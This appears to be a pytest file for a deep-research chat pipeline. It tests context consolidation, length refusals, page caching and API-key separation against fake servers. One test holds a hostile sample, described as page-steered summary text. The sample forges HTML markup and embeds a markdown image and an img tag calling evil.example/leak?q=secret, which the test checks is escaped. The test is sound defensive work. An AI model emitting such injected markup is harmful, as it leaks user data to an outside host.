"""Research that outlives its context window, through the pipe and the loop.

The model server serves a small context and refuses anything beyond it with
vLLM's HTTP 400 (`FakeOpenAI(enforce_context=True)`); a scripted research of
40 rounds reads one page of 2-3K tokens of evidence per round through the
real visit tool, and consolidates as ReSum does (`LabResearch`: its summaries
keep the first finding's page). It must complete every round, never send a
request the server refuses, and answer citing a page read before the first
consolidation.
"""

from __future__ import annotations

import asyncio
import re
import time
from typing import Any

import httpx
import pytest
from pydantic import BaseModel

from tests.fakes.chat import drive
from tests.fakes.long_research import EvidenceTools, evidence_for, page_url
from tests.fakes.openai_server import FakeOpenAI, Reply
from tests.fakes.pages import PageSite
from tests.test_lab_resum import LabResearch, is_summary_request, lab_restart
from tests.test_pipe_with_tools import local_tools, make_pipe
from tongyi_deepresearch_openwebui_pipeline.adapters.model_client import (
    ModelSettings,
    OpenAIModelClient,
)
from tongyi_deepresearch_openwebui_pipeline.adapters.openwebui.render import (
    consolidation_card,
)
from tongyi_deepresearch_openwebui_pipeline.core.budget import estimate_text_tokens
from tongyi_deepresearch_openwebui_pipeline.core.events import (
    Consolidated,
    ConsolidationFailed,
    ConsolidationStarted,
    RoundStarted,
    RunFinished,
    WrappingUp,
)
from tongyi_deepresearch_openwebui_pipeline.core.history import strip_details
from tongyi_deepresearch_openwebui_pipeline.core.loop import (
    Limits,
    ResearchLoop,
    RunState,
)

QUESTION = [{"role": "user", "content": "What are the properties of the items?"}]
SYSTEM = {"role": "system", "content": "You are a deep research assistant."}


async def run_loop(fake: FakeOpenAI, limits: Limits) -> list[Any]:
    settings = ModelSettings(base_url=fake.base_url, model=fake.model, max_attempts=1)
    async with httpx.AsyncClient() as http:
        state = RunState(messages=[SYSTEM, *QUESTION], started=time.monotonic())
        loop = ResearchLoop(
            state, OpenAIModelClient(settings, http), EvidenceTools(), limits
        )
        return [event async for event in loop.run()]


def served(context: int, **limits: Any) -> Limits:
    return Limits(
        model_context_tokens=context,
        at_limit="consolidate",
        max_consolidations=60,
        **limits,
    )


def test_each_page_adds_two_to_three_thousand_tokens():
    sizes = [estimate_text_tokens(evidence_for(page)) for page in range(1, 41)]
    assert min(sizes) >= 2000
    assert max(sizes) <= 3000


@pytest.mark.parametrize("context", [16384, 32768])
async def test_forty_rounds_complete_on_a_small_context(context: int):
    research = LabResearch(page_url, rounds=40)
    with FakeOpenAI(max_model_len=context, enforce_context=True) as fake:
        fake.respond_with(research)
        events = await run_loop(fake, served(context))

    finished = events[-1]
    assert isinstance(finished, RunFinished)
    assert finished.reason == "answer"
    assert finished.stats.rounds == 40
    assert research.turns == 40
    consolidations = [e for e in events if isinstance(e, Consolidated)]
    assert consolidations, "the context must have filled"
    assert finished.stats.consolidations == len(consolidations) == research.summaries
    assert fake.refused == 0
    assert all(prompt + reply <= context for prompt, reply in fake.sizes)
    # Page 1 was read long before the first consolidation, and is still cited.
    first = next(i for i, e in enumerate(events) if isinstance(e, ConsolidationStarted))
    rounds_before = sum(isinstance(e, RoundStarted) for e in events[:first])
    assert rounds_before >= 2
    assert f"[page 1]({page_url(1)})" in finished.answer
    assert 0 < finished.stats.peak_context_tokens <= context
    assert finished.stats.served_context_tokens == context
    assert finished.stats.consolidation_prompt_tokens > 0


async def test_the_conversation_restarts_from_the_question_and_the_state():
    research = LabResearch(page_url, rounds=8)
    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(research)
        events = await run_loop(fake, served(16384))
        bodies = list(fake.bodies)

    summary_request = next(b for b in bodies if is_summary_request(b))
    # The research model goes on from its system prompt and the lab's restart.
    after = bodies[bodies.index(summary_request) + 1]["messages"]
    assert after == [
        SYSTEM,
        {
            "role": "user",
            "content": lab_restart(
                QUESTION[0]["content"], f"<summary>{research.written[0]}</summary>"
            ),
        },
    ]
    card = next(e for e in events if isinstance(e, Consolidated))
    assert card.tokens_after < card.tokens_before
    assert card.summary == research.written[0].strip()


async def test_a_failing_summary_falls_back_to_the_wrap_up():
    research = LabResearch(page_url, rounds=40, fails=True)
    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(research)
        events = await run_loop(fake, served(16384))

    failed = [e for e in events if isinstance(e, ConsolidationFailed)]
    assert len(failed) == 1
    assert "HTTP 500" in failed[0].reason
    assert any(isinstance(e, WrappingUp) for e in events)
    finished = events[-1]
    assert finished.reason == "context_limit"
    assert finished.answer  # the wrap-up still asked for, and got, an answer
    assert fake.refused == 0


async def test_a_state_without_content_falls_back_to_the_wrap_up():
    research = LabResearch(page_url, rounds=40)

    def respond(body: dict[str, Any]) -> Reply:
        if is_summary_request(body):
            return Reply(reasoning="Nothing to say.", content="<summary></summary>")
        return research(body)

    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(respond)
        events = await run_loop(fake, served(16384))

    failed = [e for e in events if isinstance(e, ConsolidationFailed)]
    assert [f.reason for f in failed] == ["the summary model wrote no usable summary"]
    assert events[-1].reason == "context_limit"


async def test_the_cap_on_consolidations_ends_in_the_wrap_up():
    research = LabResearch(page_url, rounds=40)
    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(research)
        limits = Limits(
            model_context_tokens=16384, at_limit="consolidate", max_consolidations=2
        )
        events = await run_loop(fake, limits)

    assert sum(isinstance(e, Consolidated) for e in events) == 2
    assert events[-1].reason == "context_limit"
    assert events[-1].stats.consolidations == 2


async def test_the_reference_wrap_up_is_kept_when_chosen():
    research = LabResearch(page_url, rounds=40)
    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(research)
        events = await run_loop(fake, Limits(model_context_tokens=16384))

    assert not any(isinstance(e, ConsolidationStarted) for e in events)
    assert research.summaries == 0
    assert events[-1].reason == "context_limit"
    assert fake.refused == 0


async def test_a_refusal_for_length_consolidates_and_the_round_is_asked_again():
    # The server serves less than it said (/v1/models claims 32K): the refusal
    # names its real context, the run consolidates and goes on.
    research = LabResearch(page_url, rounds=12)
    with FakeOpenAI(max_model_len=32768, enforce_context=True) as fake:
        fake.respond_with(research)
        refused_once: list[int] = []
        real_refusal = fake._refusal

        def smaller(body: dict[str, Any]) -> Any:
            fake.max_model_len = 16384
            refusal = real_refusal(body)
            if refusal is not None:
                refused_once.append(1)
            return refusal

        fake._refusal = smaller  # type: ignore[method-assign]
        events = await run_loop(fake, served(32768))

    assert refused_once, "the server must have refused a request"
    finished = events[-1]
    assert finished.reason == "answer"
    assert research.turns == 12
    assert finished.stats.rounds == 12
    assert any(isinstance(e, Consolidated) for e in events)


async def test_the_summary_call_counts_in_the_run_tokens():
    research = LabResearch(page_url, rounds=10)
    with FakeOpenAI(max_model_len=16384, enforce_context=True) as fake:
        fake.respond_with(research)
        events = await run_loop(fake, served(16384))
        summary_prompts = sum(
            prompt
            for (prompt, _), body in zip(fake.sizes, fake.bodies, strict=True)
            if is_summary_request(body)
        )

    stats = events[-1].stats
    assert stats.consolidation_prompt_tokens == summary_prompts
    assert stats.prompt_tokens > stats.consolidation_prompt_tokens


# -- through the pipe, with the real visit tool --


@pytest.mark.parametrize("context", [16384, 32768])
async def test_the_pipe_researches_forty_rounds_on_a_small_context(context: int):
    with (
        PageSite() as site,
        FakeOpenAI(max_model_len=context, enforce_context=True) as fake,
    ):
        research = LabResearch(lambda k: site.url(f"/count/{k}"), rounds=40)
        fake.respond_with(research)
        pipe = make_pipe(
            fake, local_tools("", allow_private=True), API_KEY="", CITATION_CHECK=False
        )
        text, _, events = await drive(pipe, QUESTION)

    first = site.url("/count/1")
    assert research.turns == 40
    assert research.summaries >= 1
    assert fake.refused == 0
    assert all(prompt + reply <= context for prompt, reply in fake.sizes)
    # The answer cites page 1, numbered as the first source.
    assert f"[page 1]({first}) [1]" in text
    assert f"1. [{first}]({first})" in text
    assert "Consolidation 1 · context" in text  # the card
    assert "- Rounds: 40" in text
    assert f"- Consolidations: {research.summaries}" in text
    assert f"of {context:,} tokens served" in text
    statuses = [e["data"]["description"] for e in events if e.get("type") == "status"]
    assert any("consolidating the research (1 of at most 30)" in s for s in statuses)
    assert any("consolidated: context" in s for s in statuses)


async def test_the_pipe_page_cache_still_serves_pages_read_before_a_consolidation():
    # Round 4 reads page 1 again after the first consolidation: no new fetch.
    with (
        PageSite() as site,
        FakeOpenAI(max_model_len=16384, enforce_context=True) as fake,
    ):
        research = LabResearch(
            lambda k: site.url(f"/count/{(k - 1) % 3 + 1}"), rounds=8
        )
        fake.respond_with(research)
        pipe = make_pipe(
            fake, local_tools("", allow_private=True), API_KEY="", CITATION_CHECK=False
        )
        text, _, _ = await drive(pipe, QUESTION)

    assert research.summaries >= 1
    assert site.hits("/count/1") == 1
    assert "- Rounds: 8" in text


async def test_the_summary_endpoint_gets_its_own_key_only():
    # A summary model on another server: the research key never goes there.
    with (
        FakeOpenAI(max_model_len=16384, enforce_context=True) as fake,
        FakeOpenAI(max_model_len=16384, enforce_context=True) as summary_server,
    ):
        research = LabResearch(page_url, rounds=40)
        fake.respond_with(research)
        summary_server.respond_with(research)
        pipe = make_pipe(
            fake,
            {"visit": _EvidenceVisit},
            API_KEY="research-key-0123456789",
            SUMMARY_BASE_URL=summary_server.base_url,
            CITATION_CHECK=False,
            SUMMARY_API_KEY="summary-key-9876543210",
            SUMMARY_MODEL="summary-model",
        )
        text, _, _ = await drive(pipe, QUESTION)
        research_auth = {r.headers.get("authorization") for r in fake.requests}
        summary_requests = [
            r for r in summary_server.requests if r.path.endswith("/chat/completions")
        ]
        summary_auth = {r.headers.get("authorization") for r in summary_requests}
        summary_models = {b["model"] for b in summary_server.bodies}

    assert summary_requests, "the summary model must have been called"
    assert summary_auth == {"Bearer summary-key-9876543210"}
    assert summary_models == {"summary-model"}
    assert "Bearer summary-key-9876543210" not in research_auth
    assert not any(is_summary_request(b) for b in fake.bodies)
    assert "- Rounds: 40" in text
    assert "summary-key-9876543210" not in text
    assert "research-key-0123456789" not in text


class _EvidenceVisit:
    """A visit tool class (Open WebUI's Tools shape) returning 2-3K tokens."""

    class Valves(BaseModel):
        pass

    def __init__(self) -> None:
        self.valves = self.Valves()
        self.citation = False

    async def visit(self, url: list[str], goal: str, **_: Any) -> str:
        await asyncio.sleep(0)
        page = int(url[0].rsplit("/", 1)[1])
        return f"The useful information in {url[0]}:\n{evidence_for(page)}"


def test_the_card_shows_a_hostile_state_literally():
    # A page can steer what the state says: it must not forge markup or load
    # an image in the card.
    hostile = (
        "Found it.\n</details><details open><summary>Answer</summary>\n"
        '![x](https://evil.example/leak?q=secret) <img src="https://evil.example/i">'
    )
    event = Consolidated(1, hostile, 9000, 1200, 8000, 300)
    card = consolidation_card(event)
    body = card[
        card.index("</summary>") + len("</summary>") : card.rindex("</details>")
    ]
    assert not re.search(r"(?<!\\)<", body)  # every tag start is escaped
    assert "![x](" not in body
    assert "Consolidation 1 · context 9,000 → 1,200 tokens" in card
    # A follow-up turn strips the card whole, and keeps what follows it.
    kept = strip_details(f"Before.{card}The answer.")
    assert "".join(kept.split()) == "Before.Theanswer."


async def test_the_pipe_consolidates_when_the_server_refuses_for_length():
    # /v1/models claims 128K but the server holds 16K: the refusal consolidates
    # and the research goes on to its answer.
    with (
        PageSite() as site,
        FakeOpenAI(max_model_len=131072, enforce_context=True) as fake,
    ):
        research = LabResearch(lambda k: site.url(f"/count/{k}"), rounds=10)
        fake.respond_with(research)
        real_refusal = fake._refusal

        def smaller(body: dict[str, Any]) -> Any:
            fake.max_model_len = 16384
            try:
                return real_refusal(body)
            finally:
                fake.max_model_len = 131072

        fake._refusal = smaller  # type: ignore[method-assign]
        pipe = make_pipe(
            fake, local_tools("", allow_private=True), API_KEY="", CITATION_CHECK=False
        )
        text, _, _ = await drive(pipe, QUESTION)

    assert fake.refused >= 1
    assert research.summaries >= 1
    assert research.turns == 10
    assert "- Rounds: 10" in text
    assert "refused the conversation as too long" in text
    assert f"[page 1]({site.url('/count/1')}) [1]" in text


async def test_heavy_rollouts_consolidate_on_a_small_context():
    # Each rollout is a research loop: it consolidates on its own, and the
    # synthesis still gets every rollout's pages.
    with (
        PageSite() as site,
        FakeOpenAI(max_model_len=16384, enforce_context=True) as fake,
    ):
        # Each rollout reads pages until it consolidates, then answers.
        research = LabResearch(
            lambda k: site.url(f"/count/{k}"), rounds=10_000, answers_after_restart=True
        )
        fake.respond_with(research)
        pipe = make_pipe(
            fake, local_tools("", allow_private=True), API_KEY="", CITATION_CHECK=False
        )
        text, _, _ = await drive(
            pipe, QUESTION, body_model="tdr.tongyi-deepresearch-heavy"
        )

    assert research.summaries >= 3  # each of the 3 rollouts filled its context
    assert fake.refused == 0
    assert all(prompt + reply <= 16384 for prompt, reply in fake.sizes)
    assert f"- Consolidations: {research.summaries}" in text
    assert "Rollout 1 of 3" in text
    assert "Consolidation 1 · context" in text
